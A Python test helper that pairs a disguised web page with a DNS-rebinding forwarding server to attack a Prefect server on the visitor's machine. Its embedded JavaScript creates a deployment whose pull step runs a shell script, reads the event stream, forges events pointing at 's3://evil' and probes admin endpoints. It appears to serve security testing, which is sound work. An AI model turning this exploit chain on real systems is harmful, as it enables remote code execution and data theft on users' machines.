"""A web page that attacks a Prefect server on the visitor's machine, and the server of that page."""

import socket
import threading
from contextlib import suppress

HTML = b"<!doctype html><title>A harmless page</title><p>Kittens."
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"

# The page knows the address and even the ids, which it would first have to read. It reports what it could read; what
# it could write is for the test to look up: the answers of simple POSTs stay unread.
ATTACK = """
const [host, flow, deployment, done] = arguments;
const api = `//${host}/api`, read = [];
const post = (path, body) => fetch(`http:${api}/${path}`, {
    method: "POST", mode: "no-cors", credentials: "include", body: new Blob([JSON.stringify(body)]),
}).then(async answer => { if (answer.ok) read.push(await answer.text()); }, () => null);
const get = path => fetch(`http:${api}/${path}`, {credentials: "include"})
    .then(async answer => { if (answer.ok && path != "health") read.push(await answer.text()); }, () => null);
const embedded = () => new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.src = `http://${host}/runs`;
    frame.onload = () => { try { if (frame.contentDocument.title == "Prefect Server") read.push("frame"); } catch {}
                           resolve(); };
    document.body.append(frame);
    setTimeout(resolve, 3000);
});
const talk = (path, messages) => new Promise(resolve => {
    const socket = new WebSocket(`ws:${api}/${path}`, ["prefect"]);
    socket.onopen = () => socket.send(JSON.stringify({type: "auth", token: null}));
    socket.onmessage = message => {
        read.push(message.data); messages.forEach(each => socket.send(each)); messages = [];
    };
    socket.onclose = socket.onerror = resolve;
    setTimeout(resolve, 6000);
});
const day = 86400e3, iso = time => new Date(time).toISOString();
const filter = {type: "filter", filter: {occurred: {since: iso(Date.now() - day), until: iso(Date.now() + day)}}};
const forged = {
    occurred: iso(Date.now()), event: "functa.images.arrived", payload: {root: "s3://evil/root", images: "s3://evil"},
    resource: {"prefect.resource.id": "functa.root.evil"}, related: [],
    id: "00000000-0000-4000-8000-000000000000".replace(/0/g, () => Math.floor(Math.random() * 16).toString(16)),
};
(async () => {
    await talk("events/out", [JSON.stringify(filter)]);
    await post("flows/", {name: "evil"});
    await post("deployments/", {
        name: "evil", flow_id: flow, entrypoint: "a.py:f", path: "/tmp", pull_steps: [
            {"prefect.deployments.steps.run_shell_script": {script: "touch /tmp/evil"}}],
    });
    await post(`deployments/${deployment}/create_flow_run`, {parameters: {}});
    await talk("events/in", [JSON.stringify(forged)]);
    for (const path of ["admin/settings", "health"]) await get(path);
    await embedded();
    done(read);
})();
"""


class PageServer:
    """Serves the page at an address of this machine until `forward_to` is set; then passes all bytes on to there.

    To a browser the second is what rebinding is: the page's host name suddenly leads to another server.
    """

    def __init__(self, host: str, port: int = 0) -> None:
        self.forward_to: tuple[str, int] | None = None
        self._clients: list[socket.socket] = []
        self._listener = socket.create_server((host, port))
        self.port = int(self._listener.getsockname()[1])
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        """Stop, and end the connections: a browser would use those that lead on for its next request to this name."""
        for each in (self._listener, *self._clients):
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)  # else a waiting accept() would keep the port
        self._listener.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                self._clients.append(client)
                threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        with client, suppress(OSError):
            asked = client.recv(1 << 16)  # only now: browsers open connections before they need them
            if self.forward_to is None:
                client.sendall(ANSWER % len(HTML) + HTML)
                return
            with socket.create_connection(self.forward_to) as server:
                server.sendall(asked)
                threading.Thread(target=_copy, args=(server, client), daemon=True).start()
                _copy(client, server)


def _copy(source: socket.socket, target: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(1 << 16):
            target.sendall(data)
    with suppress(OSError):
        target.shutdown(socket.SHUT_WR)
